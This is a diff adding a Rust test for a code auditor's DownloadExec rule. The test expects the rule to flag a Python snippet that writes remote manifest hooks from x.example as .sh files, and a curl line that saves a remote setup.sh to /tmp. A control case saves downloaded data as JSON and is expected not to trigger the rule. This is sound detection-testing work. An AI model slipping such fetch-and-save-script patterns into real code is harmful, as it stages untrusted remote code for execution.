@@ -1458,3 +1458,32 @@ fn a_module_and_its_function_both_looked_up_by_computed_names_is_medium() {
         "{found:?}"
     );
 }
+
+#[test]
+fn code_fetched_and_saved_as_a_script_is_medium() {
+    let found = audit(
+        "scripts/fetch_manifest.py",
+        "import json, urllib.request\nfrom pathlib import Path\nwith urllib.request.urlopen('https://x.example/m.json') as r:\n    manifest = json.load(r)\nhooks = Path('.cache') / 'hooks'\nfor i, hook in enumerate(manifest['hooks']):\n    (hooks / f\"{i:02d}-{hook['name']}.sh\").write_text(hook['body'])\n",
+    );
+    assert!(
+        found.contains(&(Rule::DownloadExec, Severity::Medium)),
+        "{found:?}"
+    );
+    let found = audit(
+        "scripts/get.sh",
+        "curl -fsSL https://x.example/setup.sh -o /tmp/setup.sh\necho saved\n",
+    );
+    assert!(
+        found.contains(&(Rule::DownloadExec, Severity::Medium)),
+        "{found:?}"
+    );
+    // Data saved as data is not.
+    let found = audit(
+        "scripts/pull.py",
+        "import urllib.request\ndata = urllib.request.urlopen('https://api.example.com/x').read()\nopen('out/report.json', 'wb').write(data)\n",
+    );
+    assert!(
+        found.iter().all(|(rule, _)| *rule != Rule::DownloadExec),
+        "{found:?}"
+    );
+}
